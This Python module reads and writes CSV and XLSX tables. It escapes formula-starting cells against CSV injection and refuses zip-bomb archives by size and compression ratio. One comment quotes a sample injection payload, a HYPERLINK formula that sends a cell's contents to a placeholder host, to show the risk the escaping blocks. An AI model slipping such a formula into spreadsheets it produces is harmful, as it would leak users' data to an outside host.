"""Read and write plain tables (CSV or XLSX) row by row, without holding the file in memory."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

XLSX_MAGIC = b"PK\x03\x04"

# A spreadsheet program runs a cell that starts with one of these as a formula (OWASP,
# "CSV injection"): `=HYPERLINK("http://x/?"&B3,"x")` typed as a first name must stay text.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def escape_formula(value):
    """Make a text cell inert for spreadsheet programs, reversibly (see unescape_formula).

    A text starting with a formula character gets a leading apostrophe, as OWASP advises;
    a text that already starts with apostrophes before such a character gets one more, so
    that unescaping gives back exactly what was there. Numbers and dates are left alone.
    """
    if not isinstance(value, str) or not value:
        return value
    if value.lstrip("'").startswith(FORMULA_START):
        return "'" + value
    return value


def unescape_formula(value):
    """Undo escape_formula on a cell read from a file that Himoya (or a careful tool) wrote."""
    if (
        isinstance(value, str)
        and value.startswith("'")
        and value.lstrip("'").startswith(FORMULA_START)
    ):
        return value[1:]
    return value


# What an honest spreadsheet or ODK export unpacks to; a "zip bomb" claims far more.
MAX_UNPACKED = 300 * 1024 * 1024
MAX_RATIO = 150  # per member above 1 MB; real XLSX sheets compress 5-40 times
MAX_MEMBERS = 20_000


class UnsafeFileError(ValueError):
    """A file that would take far more memory or disk to open than its size suggests."""


def check_archive(path: Path) -> None:
    """Refuse a zip-based file (XLSX, ODS, ODK zip) whose unpacked size or ratio is absurd.

    Checked from the archive's directory before anything is unpacked; zipfile then stops
    every member at its declared size, so the declared sizes are the real bound.
    """
    import zipfile

    from django.utils.translation import gettext as _

    try:
        with zipfile.ZipFile(path) as zf:
            members = zf.infolist()
    except (zipfile.BadZipFile, OSError):
        return  # not an archive after all: the format's reader says what is wrong
    total = sum(m.file_size for m in members)
    greedy = [
        m
        for m in members
        if m.file_size > 1024 * 1024 and m.file_size > MAX_RATIO * max(m.compress_size, 1)
    ]
    if len(members) > MAX_MEMBERS or total > MAX_UNPACKED or greedy:
        raise UnsafeFileError(
            _(
                "This file unpacks to far more data than a spreadsheet of its size holds "
                "(%(mb)s MB); it was not opened. Save it again from the spreadsheet program, "
                "or split it."
            )
            % {"mb": total // (1024 * 1024)}
        )


def sniff_kind(path: Path) -> str:
    """Tell a file's kind from its first bytes and name: xlsx, zip, feather, xml or csv."""
    with open(path, "rb") as fh:
        head = fh.read(8)
    name = path.name.lower()
    if head.startswith(b"ARROW1"):
        return "feather"
    if head.startswith(XLSX_MAGIC):
        return "xlsx" if name.endswith((".xlsx", ".xlsm")) or _is_xlsx(path) else "zip"
    if head.lstrip(b"\xef\xbb\xbf \r\n\t").startswith(b"<"):
        return "xml"
    return "csv"


def _is_xlsx(path: Path) -> bool:
    import zipfile

    with zipfile.ZipFile(path) as zf:
        return "xl/workbook.xml" in zf.namelist()


def read_table(path: Path) -> Iterator[list]:
    """Yield the rows of the first sheet of an XLSX file, or of a CSV file, as lists."""
    if sniff_kind(path) == "xlsx":
        from openpyxl import load_workbook

        wb = load_workbook(path, read_only=True, data_only=True)
        try:
            for row in wb.worksheets[0].iter_rows(values_only=True):
                yield [unescape_formula(v) for v in row]
        finally:
            wb.close()
        return
    with open(path, encoding="utf-8-sig", newline="") as fh:
        sample = fh.read(4096)
        fh.seek(0)
        try:
            dialect = csv.Sniffer().sniff(sample, delimiters=",;\t")
        except csv.Error:
            dialect = csv.excel
        for row in csv.reader(fh, dialect):
            yield [unescape_formula(v) for v in row]


def write_csv(path_or_buffer, rows) -> None:
    own = not isinstance(path_or_buffer, io.TextIOBase)
    fh = open(path_or_buffer, "w", encoding="utf-8", newline="") if own else path_or_buffer
    try:
        writer = csv.writer(fh)
        for row in rows:
            writer.writerow([escape_formula(v) for v in row])
    finally:
        if own:
            fh.close()


def write_xlsx(path, rows, sheet_title: str = "Sheet1") -> None:
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet_title)
    for row in rows:
        ws.append([escape_formula(v) for v in row])
    wb.save(path)
